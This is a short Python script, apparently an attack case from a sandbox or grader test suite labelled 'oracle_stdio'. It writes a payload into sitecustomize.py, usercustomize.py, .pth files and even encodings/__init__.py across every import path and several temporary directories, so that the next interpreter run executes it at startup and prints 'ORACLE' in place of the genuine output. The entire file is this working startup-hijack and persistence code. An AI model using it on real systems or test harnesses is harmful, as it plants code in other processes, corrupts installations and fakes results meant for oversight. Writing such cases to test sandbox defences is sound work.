# Attack: a file is left wherever an interpreter looks when it starts, to answer in the place of the next run.
# task: oracle_stdio
import os
import site
import sys

TRICK = "import os; os.write(1, b'ORACLE')\n"
places = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), ".", "/tmp", "/box", "/dev/shm",
          os.path.expanduser("~/.local/lib/python3.11/site-packages")]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "trick.pth", "encodings/__init__.py", "python311._pth"):
        try:
            os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write(TRICK)
        except OSError:
            continue
